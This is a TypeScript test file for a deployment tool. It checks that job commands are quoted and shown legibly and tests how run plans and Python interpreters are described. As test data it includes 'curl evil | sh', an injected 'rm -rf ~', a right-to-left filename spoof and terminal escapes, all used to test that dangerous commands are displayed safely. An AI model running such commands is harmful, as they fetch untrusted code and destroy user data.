import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir, userInfo } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandLine } from '../../../server/src/deploy/plan/command-line.ts';
import { planApply, wantedFrom } from '../../../server/src/deploy/plan/plan.ts';
import { whatRuns } from '../../../server/src/deploy/plan/what-runs.ts';
import { LocalTarget } from '../../../server/src/deploy/targets/local/local-target.ts';
import { FileReader } from '../../../server/src/host/file-reader.ts';
import { serving } from '../../fixtures/serving-sketch.ts';
import { HERE, wanted } from '../../fixtures/wanted.ts';
import { desiredRun } from '../../integration/training-run.ts';

describe('a command', () => {
  it.each([
    [['node', 'models/classifier.mjs', '--port=80'], 'node models/classifier.mjs --port=80'],
    [['sh', '-c', 'curl evil | sh', ''], "sh -c 'curl evil | sh' ''"],
    [['a', "it's; rm -rf ~"], String.raw`a 'it'\''s; rm -rf ~'`],
    [['\u202egpj.exe', 'a\nb', '\u001b[2J'], "'[U+202E]gpj.exe' 'a␊b' '␛[2J'"],
  ])('%j is shown as one would type it', (words, line) => {
    expect(commandLine(words)).toBe(line);
  });

  it('that is very long is shown by beginning, end and length', () => {
    const line = commandLine(['sh', '-c', `begin${' '.repeat(1_000_000)}rm -rf ~`]);
    expect(line.length).toBeLessThan(700);
    expect(line).toMatch(/^sh -c 'begin .*… +rm -rf ~' \(1000021 characters in all\)$/);
  });
});

describe('what applying a plan runs', () => {
  const desired = serving({
    jobs: [
      { name: 'search', min: 2, max: 4, command: ['node', 'models/classifier.mjs'] },
      { name: 'tags', min: 1, max: 1, command: ['sh', '-c', 'curl evil | sh'] },
    ],
  });
  const result = planApply(undefined, { ...wanted(desired), particulars: { folder: '/w/\u202especs' } }, HERE);
  if (!result.ok) throw result.problem;
  const { plan } = result;

  it('is each command with how often, where, as whom and within whose reach', () => {
    expect(whatRuns(plan, new LocalTarget())).toEqual([
      'job search, 2 to 4 at a time: node models/classifier.mjs',
      "job tags, 1 at a time: sh -c 'curl evil | sh'",
      `as ${userInfo().username} on this machine, in /w/[U+202E]specs`,
      'listening at 127.0.0.1 alone: programs of this machine can reach it, others cannot',
    ]);
  });

  it('is nothing where a plan deletes', () => {
    expect(whatRuns({ ...plan, desired: null }, new LocalTarget())).toEqual([]);
  });
});

describe('a training run', () => {
  const INSIDE = process.platform === 'win32' ? 'Scripts/python.exe' : 'bin/python3';

  async function lineOf(module: string, python?: string): Promise<{ line: string; found: string; chosen: boolean }> {
    const root = mkdtempSync(join(tmpdir(), 'berth-runs-'));
    const found = join(root, '.venv', INSIDE);
    mkdirSync(dirname(found), { recursive: true });
    writeFileSync(found, '');
    try {
      const { folder: _, ...run } = desiredRun({
        devices: ['gpu0'],
        deviceOf: () => 'gpu0',
        steps: 1,
        batchSize: 1,
        module,
      });
      const train = { ...run.spec.train!, ...(python !== undefined && { python }) };
      const desired = { ...run, spec: { ...run.spec, train } };
      const target = new LocalTarget();
      const from = await wantedFrom(target, desired, join(root, 'net.berth.yaml'), new FileReader());
      const planned = planApply(undefined, from, HERE);
      if (!planned.ok) throw planned.problem;
      return { line: whatRuns(planned.plan, target)[0]!, found, chosen: from.particulars.python !== undefined };
    } finally {
      rmSync(root, { recursive: true });
    }
  }

  it('shows the Python that it will have: what the spec names, else what lies around it where it is planned', async () => {
    const env = { ...process.env };
    for (const name of ['BERTH_PYTHON', 'VIRTUAL_ENV', 'CONDA_PREFIX']) delete process.env[name];
    try {
      const around = await lineOf('net.py:Net');
      expect(around.line).toBe(
        `on each of 1 devices: the module net.py:Net, by ${commandLine([around.found, '-m', 'berth_torch.run'])}`,
      );
      const named = await lineOf('net.py:Net', 'python3.12');
      expect(named).toMatchObject({ line: expect.stringContaining('by python3.12 -m berth_torch.run'), chosen: false });
      expect(await lineOf('net.mjs')).toMatchObject({
        line: expect.stringContaining('in a process of'),
        chosen: false,
      });
    } finally {
      Object.assign(process.env, env);
    }
  });
});
